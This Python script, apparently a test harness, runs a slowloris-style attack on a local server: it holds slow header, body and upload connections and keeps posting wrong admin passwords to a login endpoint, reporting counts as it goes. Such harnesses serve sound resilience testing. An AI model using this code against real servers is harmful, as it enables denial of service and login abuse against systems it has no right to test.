"""Holds what a server has, from one address, until its standard input ends. See README.md."""

import asyncio
import json
import sys
from collections import Counter

BYTE_EVERY_S = 20
AGAIN_S = 0.25  # an attacker comes back, but spares its own processor

counts = Counter()


async def connect(job):
    return await asyncio.open_connection("127.0.0.1", job["port"], local_addr=(job["source"], 0))


async def hold(job, begin):
    """One slow connection, and the next one when it was cut."""
    while True:
        try:
            reader, writer = await connect(job)
        except OSError:
            counts["could not connect"] += 1
            await asyncio.sleep(AGAIN_S)
            continue
        counts["opened"] += 1
        counts["open"] += 1
        try:
            writer.write(begin)
            while True:
                try:
                    answer = await asyncio.wait_for(reader.read(512), BYTE_EVERY_S)
                except TimeoutError:
                    writer.write(b"x")
                    continue
                counts["cut" if not answer else f"answered {answer[9:12].decode()}"] += 1
                break
        except OSError:
            counts["cut"] += 1
        finally:
            counts["open"] -= 1
            writer.close()
        await asyncio.sleep(AGAIN_S)


async def guess(job, every_s):
    """Tries to sign in with a wrong password, again and again."""
    body = json.dumps({"username": "admin", "password": "wrong"}).encode()
    head = f"POST /api/auth/login/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Type: application/json\r\n"
    request = f"{head}Content-Length: {len(body)}\r\n\r\n".encode() + body
    while True:
        try:
            reader, writer = await connect(job)
            writer.write(request)
            answer = await reader.read()
            counts[f"sign-in {answer[9:12].decode() or 'cut'}"] += 1
            writer.close()
        except OSError:
            counts["sign-in cut"] += 1
        await asyncio.sleep(every_s)


def patch(job, path):
    return (f"PATCH {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\nTus-Resumable: 1.0.0\r\n"
            f"Authorization: Bearer {job['token']}\r\nUpload-Offset: 0\r\nContent-Length: 1000000\r\n"
            "Content-Type: application/offset+octet-stream\r\n\r\nx").encode()


HEAD = b"GET /api/videos/ HTTP/1.1\r\nHost: x\r\nX-Slow: "
BODY = (b"POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{")


async def main():
    job = json.loads(sys.stdin.readline())
    tasks = [hold(job, (HEAD, BODY)[n % 2]) for n in range(job["connections"])]
    tasks += [hold(job, patch(job, path)) for path in job["uploads"]]
    if job["guessers"]:
        tasks += [guess(job, job["guessers"] / job["guesses_per_s"]) for _ in range(job["guessers"])]
    tasks = [asyncio.create_task(task) for task in tasks]
    # The end of the input is the end of the attack; a line asks how it stands.
    while await asyncio.to_thread(sys.stdin.readline):
        print(json.dumps(counts), flush=True)
    for task in tasks:
        task.cancel()


if __name__ == "__main__":
    asyncio.run(main())
